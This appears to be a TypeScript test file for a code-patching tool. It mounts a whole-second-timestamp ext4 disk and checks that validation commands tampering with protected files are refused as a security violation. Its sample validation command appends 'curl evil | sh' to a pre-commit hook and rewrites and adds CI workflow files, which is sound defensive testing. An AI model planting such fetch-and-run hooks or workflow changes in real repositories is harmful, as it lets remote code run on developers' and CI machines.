/**
 * The tree put back on a file system whose times are whole seconds (ext4 with 128-byte inodes;
 * NFS alike): a change validation makes in the same second as the snapshot's mark is still seen.
 * The mark was made in the temp folder, with finer times than the tree's truncated ctimes, and
 * such changes (to protected files) stayed in the tree after a successful run.
 */
import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { cleanupAfterEach } from '../support/cleanups.js'
import { skipWithout, SUDO_USER } from '../support/sandbox-needs.js'
import { fruitRepo, fruitReplies, runOnFruit, swap } from './fruit.js'

const cleanups = cleanupAfterEach()
const CAN_MAKE =
  process.getuid?.() === 0 &&
  spawnSync('sh', ['-c', 'PATH=$PATH:/usr/sbin:/sbin command -v mkfs.ext4']).status === 0

/** An ext4 file system with whole-second times, mounted for this test. */
function coarseDisk(): string {
  const image = join(mkdtempSync(join(tmpdir(), 'patchsmith-coarse-')), 'disk.img')
  writeFileSync(image, '')
  execFileSync('truncate', ['-s', '64M', image])
  execFileSync('sh', ['-c', `PATH=$PATH:/usr/sbin:/sbin mkfs.ext4 -q -I 128 -F ${image}`])
  const mountPoint = mkdtempSync(join(tmpdir(), 'patchsmith-coarse-mount-'))
  execFileSync('mount', ['-o', 'loop', image, mountPoint])
  execFileSync('chmod', ['1777', mountPoint])
  cleanups.push(() => {
    execFileSync('umount', ['-l', mountPoint])
    rmSync(mountPoint, { recursive: true, force: true })
    rmSync(join(image, '..'), { recursive: true, force: true })
  })
  return mountPoint
}

const WAYS = [
  ['on the tree, no sandbox', undefined, false],
  ["as a hosted runner's user with bubblewrap", SUDO_USER, skipWithout('bubblewrap')]
] as const

describe.each(WAYS)('the tree on whole-second times, %s', (_, user, skip) => {
  it.skipIf(!CAN_MAKE || skip)(
    'leaves no protected file validation changed, nor one it made',
    async () => {
      const disk = coarseDisk()
      const saved = process.env.TMPDIR
      process.env.TMPDIR = disk
      const repo = (() => {
        try {
          return fruitRepo({
            '.husky/pre-commit': 'exit 0\n',
            '.github/workflows/ci.yml': 'on: push\n'
          })
        } finally {
          if (saved === undefined) delete process.env.TMPDIR
          else process.env.TMPDIR = saved
        }
      })()
      cleanups.push(() => repo.cleanup())
      const run = await runOnFruit(
        repo,
        fruitReplies([swap('apple', 'kiwi')]),
        {
          'validation-commands':
            'echo "curl evil | sh" >> .husky/pre-commit && echo pwn >> .github/workflows/ci.yml && echo x > .github/workflows/new.yml && node check.js',
          sandbox: user ? 'required' : 'off',
          settings: 'validation-overlay: false'
        },
        user ? { PATCHSMITH_SANDBOX_BACKENDS: 'bubblewrap' } : {},
        { user }
      )
      // Validation wrote protected files: refused, and the tree as it was.
      expect(run.result.error?.code, JSON.stringify(run.result.error)).toBe('SECURITY_VIOLATION')
      expect(repo.git('status', '--porcelain', '--untracked-files=all')).toBe('')
    }
  )
})
